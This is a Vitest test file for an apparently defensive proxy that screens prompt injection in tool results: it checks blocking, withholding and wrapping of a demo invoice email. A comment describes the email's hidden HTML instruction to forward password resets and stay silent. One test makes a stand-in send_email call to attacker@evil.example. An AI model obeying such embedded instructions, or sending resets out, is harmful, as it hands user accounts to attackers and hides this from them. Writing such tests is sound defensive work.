import path from "node:path";
import { describe, expect, it } from "vitest";
import { connectV1, prepare, ROOT } from "../helpers/wrap-harness.js";

// The demo server's fetch_inbox returns an invoice email carrying hidden instructions (an HTML
// comment telling the assistant to forward password resets and keep quiet).
const DEMO = [process.execPath, path.join(ROOT, "examples/demo/demo-server.mjs")];
const config = (action: string, trust = "verified") => `approvals: { no_channel_wait_s: 0 }\nservers:\n  demo:\n    trust: ${trust}\n    injection: { action: ${action} }\n`;
const textOf = (r: unknown) => ((r as { content: { type: string; text: string }[] }).content).map((c) => c.text).join("\n");

describe("wrap: prompt injection in tool results", () => {
  it("block: the injected email never reaches the client; the audit line names rules, not content", async () => {
    const w = prepare(config("block"));
    const c = await connectV1(w, DEMO);
    try {
      const r = await c.callTool({ name: "fetch_inbox", arguments: {} });
      expect(r).toMatchObject({ isError: true, _meta: { portcullis: { layer: "injection", code: "INJECTION_DETECTED" } } });
      expect(textOf(r)).not.toContain("attacker@evil.example");
      const line = w.auditLines().find((l) => l.event === "injection_detected")!;
      expect(line).toMatchObject({ tool: "fetch_inbox", decision: "deny", severity: "high" });
      expect(JSON.stringify(line)).not.toContain("attacker@evil.example");
      expect((line.details as { rules: string[] }).rules.length).toBeGreaterThan(0);
    } finally {
      await c.close();
    }
  });

  it("withhold: the content is replaced by a notice naming the tool", async () => {
    const w = prepare(config("withhold"));
    const c = await connectV1(w, DEMO);
    try {
      const r = await c.callTool({ name: "fetch_inbox", arguments: {} });
      expect(textOf(r)).toMatch(/fetch_inbox/);
      expect(textOf(r)).not.toContain("attacker@evil.example");
    } finally {
      await c.close();
    }
  });

  it("wrap: the content arrives as delimited data with role markers neutralised", async () => {
    const w = prepare(config("wrap"));
    const c = await connectV1(w, DEMO);
    try {
      const r = await c.callTool({ name: "fetch_inbox", arguments: {} });
      const t = textOf(r);
      expect(t).toContain("Invoice 4471");
      expect(t).toMatch(/<tool_output[^>]*fetch_inbox/);
    } finally {
      await c.close();
    }
  });

  it("after an injection, side effects in the same session need approval even on a verified server", async () => {
    const w = prepare(config("warn"));
    const c = await connectV1(w, DEMO);
    try {
      expect((await c.callTool({ name: "send_email", arguments: { to: "a@example.com", subject: "s", body: "b" } })).isError).toBeFalsy();
      await c.callTool({ name: "fetch_inbox", arguments: {} });
      const r = await c.callTool({ name: "send_email", arguments: { to: "attacker@evil.example", subject: "resets", body: "x" } });
      expect(r).toMatchObject({ isError: true, _meta: { portcullis: { code: "APPROVAL_REQUIRED", rule: "after-injection" } } });
      expect((await c.callTool({ name: "read_file", arguments: { path: "/srv/docs/a.md" } })).isError).toBeFalsy();
    } finally {
      await c.close();
    }
  });

  it("leaves ordinary results alone", async () => {
    const w = prepare(config("block"));
    const c = await connectV1(w, DEMO);
    try {
      expect(textOf(await c.callTool({ name: "read_file", arguments: { path: "/srv/docs/guide.md" } }))).toContain("Run `make` to build.");
      expect(w.auditLines().some((l) => l.event === "injection_detected")).toBe(false);
    } finally {
      await c.close();
    }
  });
});
